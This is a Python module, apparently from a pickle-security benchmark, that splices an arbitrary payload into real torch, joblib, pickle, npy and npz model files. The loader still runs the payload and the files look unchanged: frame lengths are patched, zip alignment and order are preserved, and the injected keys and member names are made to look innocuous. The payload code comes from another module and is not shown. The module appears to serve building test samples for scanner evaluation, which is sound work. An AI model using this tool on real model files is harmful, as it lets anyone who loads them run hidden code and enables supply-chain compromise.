"""Splice a payload into a real benign file so that the file's normal loader still loads it and runs the payload.

Works on bytes only (a static opcode walk, never an unpickler). Containers: raw pickle (protocol 0-5, with
FRAMEs: the length of the frame that receives the bytes is fixed), torch zip (`*/data.pkl` rewritten, archive
rebuilt with the same entry names, order, compression and 64-byte data alignment), legacy torch (the data
pickle; `second_stream` uses the storage-keys pickle torch reads next), joblib raw and compressed (zlib, gzip,
bz2, xz, lzma, lz4: decompressed, injected, recompressed with the same compressor; raw array data is skipped
by reading the NumpyArrayWrapper state), `.npy` object arrays and `.npz` archives.
"""

from __future__ import annotations

import bz2
import contextlib
import gzip
import io
import lzma
import math
import pickletools
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from typing import Any

from safepickle_bench.craft.payloads import Payload, render

INJECTIONS: tuple[str, ...] = ("prepend", "append", "nested", "second_stream", "zip_entry", "between_arrays")
"""Where the payload goes:

- `prepend`: right after PROTO: payload, POP, then the original opcodes.
- `append`: before the final STOP: payload, POP.
- `nested`: a new item in a dict or list the original builds (after one of its SETITEM(S)/APPEND(S):
  key, payload, SETITEM / payload, APPEND), never in a dict that becomes an object's BUILD state.
- `second_stream`: a complete second pickle after the first STOP (raw pickles; run by `pickle_multi`, a
  loader that reads streams until EOF). For legacy torch files the payload goes into the storage-keys
  pickle, the stream torch.load reads after the data pickle.
- `zip_entry`: into a zip member: torch zip -> at a random opcode boundary inside `*/data.pkl`;
  npz -> a new `.npy` member holding an object array whose pickle runs the payload.
- `between_arrays`: joblib only: right after the raw data of a wrapped numpy array (a frame boundary).
"""

CONTAINERS: tuple[str, ...] = (
    "pickle", "torch_zip", "torch_legacy", "joblib", "joblib_zlib", "joblib_gzip", "joblib_bz2",
    "joblib_xz", "joblib_lzma", "joblib_lz4", "npy", "npz",
)

_TORCH_LEGACY_MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
_NPY_MAGIC = b"\x93NUMPY"
_ZIP_MAGIC = b"PK\x03\x04"
_SEVENZIP_MAGIC = b"7z\xbc\xaf'\x1c"
_JOBLIB_COMPRESSED: tuple[tuple[str, bytes], ...] = (
    ("joblib_zlib", b"x"),
    ("joblib_gzip", b"\x1f\x8b"),
    ("joblib_bz2", b"BZh"),
    ("joblib_xz", b"\xfd7zXZ\x00"),
    ("joblib_lzma", b"\x5d\x00\x00"),
    ("joblib_lz4", b"\x04\x22\x4d\x18"),
)
_POP = b"0"
_TORCH_ALIGNMENT = 64
_NEST_KEYS = ("_metadata_ext", "extra_state", "training_meta", "hub_info", "_cache", "config_extra")


# --------------------------------------------------------------------------- container detection


def detect_container(data: bytes) -> str:
    """Return the container kind of a file from its content (one of CONTAINERS, or 'zip', '7z', 'unknown')."""
    if data.startswith(_ZIP_MAGIC):
        try:
            names = zipfile.ZipFile(io.BytesIO(data)).namelist()
        except zipfile.BadZipFile:
            return "zip"
        if any(n.endswith("data.pkl") for n in names):
            return "torch_zip"
        if names and all(n.endswith(".npy") for n in names):
            return "npz"
        return "zip"
    if data.startswith(_SEVENZIP_MAGIC):
        return "7z"
    if data.startswith(_NPY_MAGIC):
        return "npy"
    if data.startswith(_TORCH_LEGACY_MAGIC):
        return "torch_legacy"
    for name, magic in _JOBLIB_COMPRESSED:
        if data.startswith(magic):
            return name
    if data[:1] and data[:1].decode("latin-1") in pickletools.code2op:
        head = data[: 1 << 20]
        if b"NumpyArrayWrapper" in head and b"joblib.numpy_pickle" in head:
            return "joblib"
        return "pickle"
    return "unknown"


def loader_for(container: str, injection: str) -> str:
    """Return the oracle loader that runs a payload injected into `container` with `injection`."""
    if container == "pickle":
        return "pickle_multi" if injection == "second_stream" else "pickle"
    if container in ("torch_zip", "torch_legacy"):
        return "torch"
    if container.startswith("joblib"):
        return "joblib"
    if container in ("npy", "npz"):
        return "numpy"
    raise ValueError(f"no loader for container {container!r}")


# --------------------------------------------------------------------------- static opcode walk


class _Obj:
    """An object the walk cannot evaluate (a global, a call result, an instance)."""

    __slots__ = ("args", "func", "kind", "state")

    def __init__(self, kind: str, func: Any = None, args: Any = None) -> None:
        self.kind, self.func, self.args, self.state = kind, func, args, None


@dataclass
class _Walk:
    """Where a pickle stream's opcodes are, and where bytes can be inserted."""

    start: int
    end: int = 0
    stop_pos: int = 0
    protocol: int = 0
    proto_end: int = 0
    boundaries: list[int] = field(default_factory=list)
    frames: list[tuple[int, int, int]] = field(default_factory=list)
    """(position of the 8-byte length, first content byte, length) of each FRAME."""
    nest_points: list[tuple[int, str]] = field(default_factory=list)
    raw_ends: list[int] = field(default_factory=list)


_CONST_OPS = {
    "INT", "BININT", "BININT1", "BININT2", "LONG", "LONG1", "LONG4", "FLOAT", "BINFLOAT", "STRING",
    "BINSTRING", "SHORT_BINSTRING", "UNICODE", "SHORT_BINUNICODE", "BINUNICODE", "BINUNICODE8", "BINBYTES",
    "SHORT_BINBYTES", "BINBYTES8", "BYTEARRAY8",
}


def _is_wrapper(obj: Any) -> bool:
    """Return True for a joblib NumpyArrayWrapper instance."""
    return (isinstance(obj, _Obj) and obj.kind == "newobj" and isinstance(obj.func, _Obj)
            and obj.func.func == ("joblib.numpy_pickle", "NumpyArrayWrapper"))


def _array_bytes(state: Any, data: bytes, pos: int) -> int:
    """Return the position after a joblib wrapped array's raw data that starts at `pos`."""
    import numpy as np

    if not isinstance(state, dict) or "shape" not in state or "dtype" not in state:
        raise ValueError("joblib NumpyArrayWrapper state is not a literal dict with shape and dtype")
    dtype = state["dtype"]
    if not (isinstance(dtype, _Obj) and dtype.kind == "reduce" and isinstance(dtype.args, tuple) and dtype.args
            and isinstance(dtype.args[0], str)):
        raise ValueError("joblib array dtype is not numpy.dtype(<str>, ...)")
    dt = np.dtype(dtype.args[0])  # a dtype from its literal code string, e.g. 'f8', 'O8', 'V16'
    if dt.hasobject:
        return _walk(data, pos).end  # object arrays are a nested pickle stream
    if "numpy_array_alignment_bytes" in state:
        pos += 1 + data[pos]
    count = math.prod(int(x) for x in state["shape"]) if state["shape"] else 1
    end = pos + count * dt.itemsize
    if end > len(data):
        raise ValueError("joblib array data runs past the end of the file")
    return end


def _walk(data: bytes, start: int, *, joblib: bool = False) -> _Walk:
    """Walk one pickle stream from `start` to its STOP, recording insertion points (never executes it)."""
    w = _Walk(start=start, proto_end=start)
    f = io.BytesIO(data)
    f.seek(start)
    stack: list[Any] = []
    marks: list[int] = []
    memo: dict[int, Any] = {}
    build_states: set[int] = set()
    nest_raw: list[tuple[int, str, int]] = []
    max_proto = 0

    def since_mark() -> list[Any]:
        if not marks:
            raise ValueError(f"MARK missing at {pos}")
        m = marks.pop()
        items = stack[m:]
        del stack[m:]
        return items

    def pop() -> Any:
        if not stack or (marks and len(stack) <= marks[-1]):
            raise ValueError(f"stack underflow at {pos}")
        return stack.pop()

    while True:
        pos = f.tell()
        code = f.read(1)
        if not code:
            raise ValueError("pickle stream ends without STOP")
        op = pickletools.code2op.get(code.decode("latin-1"))
        if op is None:
            raise ValueError(f"unknown opcode {code!r} at offset {pos}")
        try:
            arg = op.arg.reader(f) if op.arg is not None else None
        except ValueError as exc:
            raise ValueError(f"bad argument of {op.name} at offset {pos}: {exc}") from exc
        w.boundaries.append(pos)
        max_proto = max(max_proto, op.proto)
        name = op.name
        if name == "STOP":
            w.stop_pos, w.end = pos, f.tell()
            break
        if name == "PROTO":
            w.protocol, w.proto_end = arg, f.tell()
        elif name == "FRAME":
            w.frames.append((pos + 1, f.tell(), arg))
        elif name == "MARK":
            marks.append(len(stack))
        elif name == "POP":
            if stack and not (marks and len(stack) <= marks[-1]):
                stack.pop()
            elif marks:
                marks.pop()
        elif name == "POP_MARK":
            since_mark()
        elif name == "DUP":
            stack.append(stack[-1])
        elif name in _CONST_OPS:
            stack.append(arg)
        elif name == "NONE":
            stack.append(None)
        elif name in ("NEWTRUE", "NEWFALSE"):
            stack.append(name == "NEWTRUE")
        elif name == "EMPTY_TUPLE":
            stack.append(())
        elif name in ("TUPLE1", "TUPLE2", "TUPLE3"):
            n = int(name[-1])
            items = [pop() for _ in range(n)][::-1]
            stack.append(tuple(items))
        elif name == "TUPLE":
            stack.append(tuple(since_mark()))
        elif name == "EMPTY_LIST":
            stack.append([])
        elif name == "LIST":
            stack.append(since_mark())
        elif name == "EMPTY_DICT":
            stack.append({})
        elif name == "DICT":
            items = since_mark()
            d: dict[Any, Any] = {}
            for k, v in zip(items[::2], items[1::2], strict=False):
                with contextlib.suppress(TypeError):
                    d[k] = v
            stack.append(d)
        elif name in ("EMPTY_SET", "FROZENSET"):
            if name == "FROZENSET":
                since_mark()
            stack.append(_Obj("set"))
        elif name == "ADDITEMS":
            since_mark()
        elif name in ("APPEND", "APPENDS"):
            items = [pop()] if name == "APPEND" else since_mark()
            target = stack[-1]
            if isinstance(target, list):
                target.extend(items)
            nest_raw.append((f.tell(), "list", id(target)))
        elif name in ("SETITEM", "SETITEMS"):
            if name == "SETITEM":
                v, k = pop(), pop()
                items = [k, v]
            else:
                items = since_mark()
            target = stack[-1]
            if isinstance(target, dict):
                for k, v in zip(items[::2], items[1::2], strict=False):
                    with contextlib.suppress(TypeError):
                        target[k] = v
            nest_raw.append((f.tell(), "dict", id(target)))
        elif name == "GLOBAL":
            module, _, qual = arg.partition(" ")
            stack.append(_Obj("global", (module, qual)))
        elif name == "STACK_GLOBAL":
            qual, module = pop(), pop()
            stack.append(_Obj("global", (module, qual)))
        elif name == "INST":
            since_mark()
            module, _, qual = arg.partition(" ")
            stack.append(_Obj("inst", (module, qual)))
        elif name == "OBJ":
            items = since_mark()
            stack.append(_Obj("obj", items[0] if items else None, tuple(items[1:])))
        elif name == "REDUCE":
            args, func = pop(), pop()
            stack.append(_Obj("reduce", func, args))
        elif name == "NEWOBJ":
            args, cls = pop(), pop()
            stack.append(_Obj("newobj", cls, args))
        elif name == "NEWOBJ_EX":
            kwargs, args, cls = pop(), pop(), pop()
            build_states.add(id(kwargs))
            stack.append(_Obj("newobj", cls, args))
        elif name == "BUILD":
            state = pop()
            build_states.add(id(state))
            target = stack[-1]
            if isinstance(target, _Obj):
                target.state = state
            if joblib and _is_wrapper(target):
                f.seek(_array_bytes(state, data, f.tell()))
                w.raw_ends.append(f.tell())
        elif name in ("PUT", "BINPUT", "LONG_BINPUT"):
            memo[arg] = stack[-1]
        elif name == "MEMOIZE":
            memo[len(memo)] = stack[-1]
        elif name in ("GET", "BINGET", "LONG_BINGET"):
            if arg not in memo:
                raise ValueError(f"memo key {arg} read before it was written, at offset {pos}")
            stack.append(memo[arg])
        elif name == "PERSID":
            stack.append(_Obj("persid", None, arg))
        elif name == "BINPERSID":
            stack.append(_Obj("persid", None, pop()))
        elif name in ("EXT1", "EXT2", "EXT4", "NEXT_BUFFER"):
            stack.append(_Obj(name.lower()))
        elif name == "READONLY_BUFFER":
            pass
        else:
            raise ValueError(f"opcode {name} is not supported by the injector")
    if not w.protocol:
        w.protocol = max_proto
    w.nest_points = [(p, kind) for p, kind, target in nest_raw if target not in build_states]
    return w


def _splice(data: bytes, pos: int, insert: bytes, frames: list[tuple[int, int, int]]) -> bytes:
    """Insert bytes at `pos`, growing the FRAME that contains `pos` (if any) by their length."""
    out = bytearray(data[:pos] + insert + data[pos:])
    for length_pos, content_start, length in frames:
        if content_start <= pos < content_start + length:
            out[length_pos:length_pos + 8] = struct.pack("<Q", length + len(insert))
            break
    return bytes(out)


def _inject_stream(data: bytes, start: int, payload: Payload, injection: str, rng: random.Random,
                   *, joblib: bool = False) -> bytes:
    """Inject into the pickle stream of `data` that starts at `start`."""
    w = _walk(data, start, joblib=joblib)
    p = payload.at_protocol(w.protocol)
    if injection == "prepend":
        return _splice(data, w.proto_end, p.body + _POP, w.frames)
    if injection == "append":
        return _splice(data, w.stop_pos, p.body + _POP, w.frames)
    if injection == "nested":
        if not w.nest_points:
            raise ValueError("nested: the stream builds no dict or list to add an item to")
        pos, kind = w.nest_points[rng.randrange(len(w.nest_points))]
        if kind == "dict":
            key = f"{rng.choice(_NEST_KEYS)}_{rng.randrange(10**6)}"
            return _splice(data, pos, render(key, w.protocol) + p.body + b"s", w.frames)
        return _splice(data, pos, p.body + b"a", w.frames)
    if injection == "between_arrays":
        if not w.raw_ends:
            raise ValueError("between_arrays: the joblib stream wraps no numpy array")
        return _splice(data, w.raw_ends[rng.randrange(len(w.raw_ends))], p.body + _POP, w.frames)
    if injection == "middle":
        inner = [b for b in w.boundaries if w.proto_end <= b <= w.stop_pos]  # never inside raw array data
        return _splice(data, inner[rng.randrange(len(inner))], p.body + _POP, w.frames)
    if injection == "second_stream":
        return data[:w.end] + payload.stream(w.protocol if w.protocol >= 2 else payload.protocol) + data[w.end:]
    raise ValueError(f"unknown injection {injection!r}")


# --------------------------------------------------------------------------- containers


def _rewrite_zip(data: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None,
                 *, align: int | None = None) -> bytes:
    """Rebuild a zip with the same member names, order, dates and compression; data aligned when asked."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as dst:
        infos = list(src.infolist())
        extra_members = list((add or {}).items())
        for info in infos:
            content = replace.get(info.filename)
            if content is None:
                content = src.read(info.filename)
            _write_member(dst, buf, info.filename, content, info.compress_type, info.date_time, align)
        for name, content in extra_members:
            ref = infos[0]
            _write_member(dst, buf, name, content, ref.compress_type, ref.date_time, align)
    return buf.getvalue()


def _write_member(dst: zipfile.ZipFile, buf: io.BytesIO, name: str, content: bytes, compress_type: int,
                  date_time: tuple[int, ...], align: int | None) -> None:
    """Write one zip member, padding its local header (torch's 'FB' extra field) to align its data."""
    info = zipfile.ZipInfo(name, date_time=date_time)
    info.compress_type = compress_type
    info.external_attr = 0o600 << 16
    if align:
        offset = buf.tell()
        name_len = len(name.encode("utf-8"))
        pad = (-(offset + 30 + name_len + 4)) % align
        info.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
    dst.writestr(info, content)


def _torch_zip(data: bytes, payload: Payload, injection: str, rng: random.Random) -> bytes:
    """Inject into `*/data.pkl` of a torch zip archive and rebuild it aligned as torch writes it."""
    if injection == "second_stream":
        raise ValueError("second_stream: torch.load reads one stream from data.pkl; use zip_entry or prepend")
    if injection == "between_arrays":
        raise ValueError("between_arrays is for joblib files")
    archive = zipfile.ZipFile(io.BytesIO(data))
    member = next(n for n in archive.namelist() if n.endswith("data.pkl"))
    pkl = archive.read(member)
    how = "middle" if injection == "zip_entry" else injection
    return _rewrite_zip(data, {member: _inject_stream(pkl, 0, payload, how, rng)}, align=_TORCH_ALIGNMENT)


def _torch_legacy(data: bytes, payload: Payload, injection: str, rng: random.Random) -> bytes:
    """Inject into the data pickle (4th stream) of a legacy torch file, or the storage-keys pickle (5th)."""
    if injection in ("zip_entry", "between_arrays"):
        raise ValueError(f"{injection}: not applicable to a legacy (non-zip) torch file")
    starts = [0]
    for _ in range(4):
        starts.append(_walk(data, starts[-1]).end)
    if injection == "second_stream":
        return _inject_stream(data, starts[4], payload, "prepend", rng)
    return _inject_stream(data, starts[3], payload, injection, rng)


_COMPRESS = {
    "joblib_zlib": lambda raw, level: zlib.compress(raw, level),
    "joblib_gzip": lambda raw, level: gzip.compress(raw, compresslevel=level, mtime=0),
    "joblib_bz2": lambda raw, level: bz2.compress(raw, level),
    "joblib_xz": lambda raw, level: lzma.compress(raw, format=lzma.FORMAT_XZ, preset=level),
    "joblib_lzma": lambda raw, level: lzma.compress(raw, format=lzma.FORMAT_ALONE, preset=level),
}


def _decompress(container: str, data: bytes) -> tuple[bytes, int]:
    """Return the decompressed joblib stream and the compression level to write it back with."""
    if container == "joblib_zlib":
        return zlib.decompress(data), {0: 1, 1: 3, 2: 6, 3: 9}[data[1] >> 6]
    if container == "joblib_gzip":
        return gzip.decompress(data), 3
    if container == "joblib_bz2":
        return bz2.decompress(data), int(chr(data[3])) if chr(data[3]).isdigit() else 9
    if container in ("joblib_xz", "joblib_lzma"):
        return lzma.decompress(data), 3
    if container == "joblib_lz4":
        import lz4.frame

        return lz4.frame.decompress(data), 3
    raise ValueError(f"not a compressed joblib container: {container}")


def _compress(container: str, raw: bytes, level: int) -> bytes:
    """Compress a joblib stream back with the compressor it came with."""
    if container == "joblib_lz4":
        import lz4.frame

        return lz4.frame.compress(raw, compression_level=level)
    return _COMPRESS[container](raw, level)


def _joblib(container: str, data: bytes, payload: Payload, injection: str, rng: random.Random) -> bytes:
    """Inject into a joblib stream (raw or compressed) that joblib.load reads as one pickle."""
    if injection in ("second_stream", "zip_entry"):
        raise ValueError(f"{injection}: joblib.load reads exactly one pickle stream and no zip")
    if container == "joblib":
        return _inject_stream(data, 0, payload, injection, rng, joblib=True)
    raw, level = _decompress(container, data)
    return _compress(container, _inject_stream(raw, 0, payload, injection, rng, joblib=True), level)


def _npy_data_offset(data: bytes) -> int:
    """Return where the array data (here: the pickle) of an .npy file starts."""
    major = data[6]
    if major == 1:
        return 10 + struct.unpack("<H", data[8:10])[0]
    return 12 + struct.unpack("<I", data[8:12])[0]


def _npy_is_object(data: bytes) -> bool:
    """Return True when an .npy header declares an object dtype."""
    header = data[:_npy_data_offset(data)]
    return b"'|O'" in header or b"'O'" in header


def _npy(data: bytes, payload: Payload, injection: str, rng: random.Random) -> bytes:
    """Inject into the pickle of an object-array .npy file."""
    if injection in ("second_stream", "zip_entry", "between_arrays"):
        raise ValueError(f"{injection}: numpy.load reads one pickle from an .npy and it is no zip")
    if not _npy_is_object(data):
        raise ValueError("the .npy does not hold an object array: numpy.load never unpickles it")
    return _inject_stream(data, _npy_data_offset(data), payload, injection, rng)


def _object_npy(payload: Payload) -> bytes:
    """Return a one-element object-array .npy whose pickle runs the payload before building the array."""
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([None, "meta"], dtype=object), allow_pickle=True)
    return _inject_stream(buf.getvalue(), _npy_data_offset(buf.getvalue()), payload, "prepend", random.Random(0))


def _npz(data: bytes, payload: Payload, injection: str, rng: random.Random) -> bytes:
    """Inject into an object-array member of an .npz, or add a new member (zip_entry)."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    if injection == "zip_entry":
        names = set(archive.namelist())
        stem = rng.choice(["metadata", "extra", "config", "vocab", "labels"])
        name = next(f"{stem}{i or ''}.npy" for i in range(1000) if f"{stem}{i or ''}.npy" not in names)
        return _rewrite_zip(data, {}, {name: _object_npy(payload)})
    if injection in ("second_stream", "between_arrays"):
        raise ValueError(f"{injection}: not applicable to an .npz archive")
    members = [n for n in archive.namelist() if _npy_is_object(archive.read(n))]
    if not members:
        raise ValueError("the .npz holds no object array: use zip_entry to add one")
    member = members[rng.randrange(len(members))]
    return _rewrite_zip(data, {member: _npy(archive.read(member), payload, injection, rng)})


def inject(carrier: bytes, payload: Payload, injection: str, *, rng: random.Random | None = None) -> bytes:
    """Return the carrier's bytes with the payload injected so that its normal loader runs it.

    The loader for the result is `loader_for(detect_container(carrier), injection)`. Raises ValueError for a
    combination that cannot work (e.g. `second_stream` into a torch zip, `between_arrays` without arrays).
    """
    if injection not in INJECTIONS:
        raise ValueError(f"unknown injection {injection!r}; known: {', '.join(INJECTIONS)}")
    rng = rng if rng is not None else random.Random(f"{injection}|{len(carrier)}|{payload.family}|{payload.variant}")
    container = detect_container(carrier)
    if container == "pickle":
        if injection in ("zip_entry", "between_arrays"):
            raise ValueError(f"{injection}: a raw pickle has no zip member or wrapped array")
        return _inject_stream(carrier, 0, payload, injection, rng)
    if container == "torch_zip":
        return _torch_zip(carrier, payload, injection, rng)
    if container == "torch_legacy":
        return _torch_legacy(carrier, payload, injection, rng)
    if container.startswith("joblib"):
        return _joblib(container, carrier, payload, injection, rng)
    if container == "npy":
        return _npy(carrier, payload, injection, rng)
    if container == "npz":
        return _npz(carrier, payload, injection, rng)
    raise ValueError(f"cannot inject into a {container!r} file")
